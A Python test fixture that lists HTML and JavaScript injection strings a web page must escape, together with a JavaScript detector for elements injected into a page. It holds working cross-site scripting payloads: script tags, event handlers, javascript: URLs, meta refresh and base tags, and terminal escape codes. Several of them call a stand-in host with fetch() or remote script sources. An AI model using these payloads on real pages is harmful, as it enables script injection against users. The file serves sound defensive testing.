"""HTML and JavaScript injections: texts that a page must escape."""

ELSEWHERE = "http://elsewhere.example"  # host that injected code would contact
RUN = f"document.documentElement.dataset.ran=1;fetch('{ELSEWHERE}/ran')"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "remote-script": f'<script src="{ELSEWHERE}/x.js"></script>',
    "closing": f"</pre></code></div></textarea></style></title><script>{RUN}</script>",
    "handler": f'<img src="x" onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "mathml": f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
    "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>1</script>">',
    "object": f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e">',
    "form": f'<form action="{ELSEWHERE}"><input autofocus onfocus="{RUN}"><button>go</button>',
    "style": f'<style>@import "{ELSEWHERE}/s.css"; body {{ display: none }}</style>',
    "style-attribute": f'<p style="background: url({ELSEWHERE}/b.png)">p</p>',
    "link": f'<link rel="stylesheet" href="{ELSEWHERE}/l.css"><a href="javascript:{RUN}">a</a>',
    "meta": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/m"><base href="{ELSEWHERE}">',
    "details": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "media": f'<video poster="{ELSEWHERE}/v.png" src="{ELSEWHERE}/v" autoplay></video>',
    "remote-picture": f'<img src="{ELSEWHERE}/p.png" srcset="{ELSEWHERE}/q.png 2x">',
    "namesakes": '<b id="bounds" class="full-credit" name="submission_id">b</b>',
    "ansi": f"\x1b[31m<script>{RUN}</script>\x1b[0m\x1b]0;title\x07\x1b[38;5;999999999999m",
    "attribute": f'" onmouseover="{RUN}" x="',
    "template": "{{ 7 * 7 }} {% raw %}",
}

# JavaScript that returns the elements of a page that one of these attacks has created.
INJECTED = """() => [...document.querySelectorAll("*")].filter((one) =>
  ["IFRAME", "OBJECT", "EMBED", "MATH", "FORM", "BASE"].includes(one.tagName)
  || (one.tagName === "IMG" && !/^data:image.(png|jpeg);|[/]static[/]/.test(one.src))
  || [...one.attributes].some((a) => /^on/.test(a.name) && /ran|onerror|elsewhere/.test(a.value)))
  .map((one) => one.outerHTML.slice(0, 200))"""
